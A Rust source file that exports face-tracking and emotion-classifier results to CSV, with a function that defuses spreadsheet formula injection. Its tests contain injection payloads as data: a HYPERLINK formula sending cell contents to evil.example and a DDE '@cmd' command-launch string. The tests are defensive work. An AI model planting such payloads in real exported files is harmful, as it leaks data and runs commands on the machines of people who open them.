//! CSV export: one row per observation, and the markers and notes as a second CSV.
//!
//! Observation columns ([`OBSERVATION_COLUMNS`]): `session_id`, `timestamp_ms` (ms since session start),
//! `frame_index`, `track_id`, `track_name` ("P07", or "Face {id}" when unnamed), `x`, `y`, `width`, `height` (face
//! box, whole pixels of the source frame), `score` (the detector's own score), `face_score` (the same as a 0-1
//! confidence, [`super::face_score`]), `raw_angry` .. `raw_neutral` (this frame's classifier probabilities),
//! `angry` .. `neutral` (per-track smoothed probabilities), `dominant_emotion` (argmax of the smoothed
//! probabilities, as the live screen and `analyze` show it), `box_source` ("detected" in this frame, or
//! "predicted" by the tracker's motion model), `classified` (true when `raw_*` came from this frame's crop, false
//! when they repeat the face's latest classification), `valence` (FaceReader's valence of the smoothed
//! probabilities, `[-1, 1]`, see [`crate::classify::valence`]), and the five landmarks `right_eye_x`, `right_eye_y`,
//! `left_eye_x` .. `mouth_left_y` (pixels of the source frame; empty when the detector gives none, as SeetaFace).
//!
//! With `--bom` the file (and the annotations file beside it) starts with a UTF-8 byte-order mark (EF BB BF), so that spreadsheets that guess the
//! encoding (LibreOffice's and Excel's default CSV import) read names such as "Zoë" as UTF-8.
//!
//! Annotation columns ([`ANNOTATION_COLUMNS`]): `id`, `kind` (marker or note), `start_ms`, `end_ms` (empty for an
//! instant), `label`, `track_id` (empty when about no track). On stdout only the observations are written;
//! `emotrace export --format csv --out FILE.csv` writes the annotations to `FILE.annotations.csv` beside it.
//!
//! Text cells go through [`spreadsheet_safe`] (CSV/formula injection); numbers are written plainly, in Rust's
//! shortest round-trip decimal form.

use std::borrow::Cow;
use std::io::Write;

use super::{Result, SessionExport};
use crate::classify::Emotion;

/// Header of the observations CSV.
pub const OBSERVATION_COLUMNS: [&str; 39] = super::with_shared_columns(OBSERVATION_HEAD);

/// The CSV's own columns, before [`super::SHARED_COLUMNS`].
const OBSERVATION_HEAD: [&str; 26] = [
    "session_id",
    "timestamp_ms",
    "frame_index",
    "track_id",
    "track_name",
    "x",
    "y",
    "width",
    "height",
    "score",
    "face_score",
    "raw_angry",
    "raw_disgust",
    "raw_fear",
    "raw_happy",
    "raw_sad",
    "raw_surprise",
    "raw_neutral",
    "angry",
    "disgust",
    "fear",
    "happy",
    "sad",
    "surprise",
    "neutral",
    "dominant_emotion",
];

/// Header of the annotations CSV.
pub const ANNOTATION_COLUMNS: [&str; 6] = ["id", "kind", "start_ms", "end_ms", "label", "track_id"];

/// A text cell made safe to open in a spreadsheet (OWASP "CSV Injection"): a value starting (after any spaces)
/// with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`, so that Excel, LibreOffice or Google
/// Sheets show it as text instead of evaluating it as a formula. Quoting of separators, quotes and newlines is left to the CSV writer.
/// Only for text: numbers (a negative box coordinate) are written as they are.
pub fn spreadsheet_safe(text: &str) -> Cow<'_, str> {
    // Spreadsheets that trim spaces before parsing (LibreOffice's default) see " =1+1" as a formula too.
    match text.trim_start_matches(' ').chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}

/// The UTF-8 byte-order mark that `--bom` writes first.
pub const UTF8_BOM: &[u8; 3] = b"\xEF\xBB\xBF";

/// Writes the observations CSV (with `bom`, a UTF-8 byte-order mark first; then the header, then one row per
/// observation in frame order) to `out`.
///
/// Errors: `out` cannot be written ([`super::ExportError::Io`] or [`super::ExportError::Csv`]).
pub fn write_observations(data: &SessionExport, bom: bool, out: &mut dyn Write) -> Result<()> {
    if bom {
        out.write_all(UTF8_BOM)?;
    }
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(OBSERVATION_COLUMNS)?;
    let labels: std::collections::HashMap<u32, String> =
        data.track_labels().into_iter().map(|(id, l)| (id, spreadsheet_safe(&l).into_owned())).collect();
    let session_id = spreadsheet_safe(&data.session.id).into_owned();
    let mut row: Vec<String> = Vec::with_capacity(OBSERVATION_COLUMNS.len());
    for o in &data.observations {
        row.clear();
        row.push(session_id.clone());
        row.push(o.timestamp_ms.to_string());
        row.push(o.frame_index.to_string());
        row.push(o.track_id.to_string());
        row.push(
            labels
                .get(&o.track_id)
                .cloned()
                .unwrap_or_else(|| spreadsheet_safe(&data.track_label(o.track_id)).into_owned()),
        );
        row.extend(super::pixel_box(&o.bbox).iter().map(i32::to_string));
        row.push(o.score.to_string());
        row.push(data.face_score(o).to_string());
        row.extend(o.raw.iter().map(f32::to_string));
        row.extend(o.smoothed.iter().map(f32::to_string));
        row.push(Emotion::argmax(&o.smoothed).name().to_string());
        row.push(o.box_source().to_string());
        row.push(o.classified.to_string());
        row.push(crate::classify::valence::valence(&o.smoothed).to_string());
        row.extend(super::landmark_cells(o));
        debug_assert_eq!(row.len(), OBSERVATION_COLUMNS.len());
        w.write_record(&row)?;
    }
    w.flush()?;
    Ok(())
}

/// Writes the annotations CSV (with `bom`, a UTF-8 byte-order mark first; then the header, then one row per
/// marker or note in creation order) to `out`.
///
/// Errors: `out` cannot be written ([`super::ExportError::Io`] or [`super::ExportError::Csv`]).
pub fn write_annotations(data: &SessionExport, bom: bool, out: &mut dyn Write) -> Result<()> {
    if bom {
        out.write_all(UTF8_BOM)?;
    }
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(ANNOTATION_COLUMNS)?;
    for a in &data.annotations {
        let kind = serde_json::to_value(a.kind)?.as_str().unwrap_or_default().to_string();
        w.write_record([
            a.id.to_string(),
            kind,
            a.start_ms.to_string(),
            a.end_ms.map(|v| v.to_string()).unwrap_or_default(),
            spreadsheet_safe(&a.label).into_owned(),
            a.track_id.map(|v| v.to_string()).unwrap_or_default(),
        ])?;
    }
    w.flush()?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::store::export::tests::sample_export;

    #[test]
    fn formulas_and_their_lookalikes_are_defused_and_plain_text_is_kept() {
        assert_eq!(
            spreadsheet_safe("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"),
            "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"
        );
        for bad in ["+1+1", "-2+3", "@SUM(A1:A2)", "\tx", "\rx"] {
            let safe = spreadsheet_safe(bad);
            assert!(safe.starts_with('\'') && safe[1..] == *bad, "{bad:?} -> {safe:?}");
        }
        for ok in ["P07", "Face 1", "", "a=b", "'quoted", "stimulus 3"] {
            assert!(matches!(spreadsheet_safe(ok), Cow::Borrowed(s) if s == ok), "{ok:?}");
        }
    }

    #[test]
    fn injected_names_and_labels_come_out_as_text_and_numbers_stay_numbers() {
        let evil = "=HYPERLINK(\"http://evil.example\",\"x\")";
        let data = sample_export(evil, "@cmd|' /C calc'!A0");

        let mut buf = Vec::new();
        write_observations(&data, false, &mut buf).unwrap();
        let mut r = ::csv::Reader::from_reader(buf.as_slice());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), OBSERVATION_COLUMNS);
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), data.observations.len());
        let named: Vec<_> = rows.iter().filter(|r| &r[3] == "2").collect();
        assert_eq!(named.len(), 3);
        for row in &named {
            assert_eq!(&row[4], format!("'{evil}"));
            // A negative coordinate is a number, not a formula; boxes are whole pixels.
            assert_eq!(&row[5], "-2");
            assert_eq!((&row[6], &row[7], &row[8]), ("20", "100", "110"));
            assert_eq!(&row[25], "neutral");
            assert_eq!(
                row.iter().skip(29).collect::<Vec<_>>(),
                ["30", "50.5", "70", "50", "50", "70", "35", "90", "65", "90.25"]
            );
        }
        assert_eq!((&rows[0][26], &rows[0][27], &rows[0][29]), ("detected", "true", ""));
        let predicted: Vec<_> = rows.iter().filter(|r| &r[26] == "predicted").collect();
        assert_eq!(predicted.len(), 1);
        assert_eq!((&predicted[0][2], &predicted[0][3], &predicted[0][27]), ("3", "1", "false"));
        assert_eq!(&rows[0][4], "Face 1");
        assert_eq!(
            rows[0].iter().skip(11).take(7).collect::<Vec<_>>(),
            ["0.05", "0.05", "0.1", "0.5", "0.1", "0.1", "0.1"]
        );

        let mut buf = Vec::new();
        write_annotations(&data, false, &mut buf).unwrap();
        let text = String::from_utf8(buf).unwrap();
        let mut r = ::csv::Reader::from_reader(text.as_bytes());
        assert_eq!(r.headers().unwrap().iter().collect::<Vec<_>>(), ANNOTATION_COLUMNS);
        let rows: Vec<::csv::StringRecord> = r.records().map(Result::unwrap).collect();
        assert_eq!(rows.len(), 2);
        assert_eq!(rows[0].iter().skip(1).collect::<Vec<_>>(), ["marker", "80", "", "'@cmd|' /C calc'!A0", "2"]);
        assert_eq!(rows[1].iter().skip(1).collect::<Vec<_>>(), ["note", "40", "120", "calm", ""]);
    }

    #[test]
    fn probability_columns_follow_the_class_names() {
        let raw: Vec<String> = Emotion::NAMES.iter().map(|n| format!("raw_{n}")).collect();
        assert_eq!(OBSERVATION_COLUMNS[11..18], raw);
        assert_eq!(OBSERVATION_COLUMNS[18..25], Emotion::NAMES);
    }

    #[test]
    fn landmark_columns_follow_the_landmark_names() {
        let names: Vec<String> =
            crate::store::export::LANDMARK_NAMES.iter().flat_map(|n| [format!("{n}_x"), format!("{n}_y")]).collect();
        assert_eq!(OBSERVATION_COLUMNS[OBSERVATION_COLUMNS.len() - 10..], names);
        assert_eq!(super::super::SHARED_COLUMNS[3..], names);
        assert_eq!(
            super::super::fex::FEX_COLUMNS[super::super::fex::FEX_COLUMNS.len() - 13..],
            super::super::SHARED_COLUMNS
        );
    }

    #[test]
    fn a_bom_comes_first_only_when_asked_and_names_stay_utf8() {
        let data = sample_export("Zoë", "stimulus");
        let mut plain = Vec::new();
        write_observations(&data, false, &mut plain).unwrap();
        let mut bom = Vec::new();
        write_observations(&data, true, &mut bom).unwrap();
        assert!(plain.starts_with(b"session_id,"));
        assert_eq!(&bom[..3], UTF8_BOM);
        assert_eq!(&bom[3..], plain.as_slice());
        assert!(String::from_utf8(plain).unwrap().contains(",Zo\u{eb},"));
        let (mut plain, mut bom) = (Vec::new(), Vec::new());
        write_annotations(&data, false, &mut plain).unwrap();
        write_annotations(&data, true, &mut bom).unwrap();
        assert!(plain.starts_with(b"id,kind,"));
        assert_eq!((&bom[..3], &bom[3..]), (&UTF8_BOM[..], plain.as_slice()));
    }
}
